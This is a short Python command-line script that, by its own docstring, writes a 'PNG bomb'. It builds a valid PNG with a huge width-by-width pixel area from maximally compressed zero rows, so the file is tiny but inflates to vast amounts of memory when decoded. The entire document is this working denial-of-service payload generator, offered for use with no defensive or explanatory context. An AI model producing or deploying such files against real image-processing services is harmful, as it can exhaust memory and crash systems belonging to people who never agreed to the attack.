"""Writes a PNG bomb: WIDTH x WIDTH black RGB pixels, tiny on disk. Usage: png.py WIDTH OUT"""
import struct
import sys
import zlib


def chunk(kind, data):
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


width = int(sys.argv[1])
packer = zlib.compressobj(9)
row = b"\x00" * (1 + 3 * width)
idat = b"".join(packer.compress(row) for _ in range(width)) + packer.flush()
header = struct.pack(">IIBBBBB", width, width, 8, 2, 0, 0, 0)
with open(sys.argv[2], "wb") as out:
    out.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
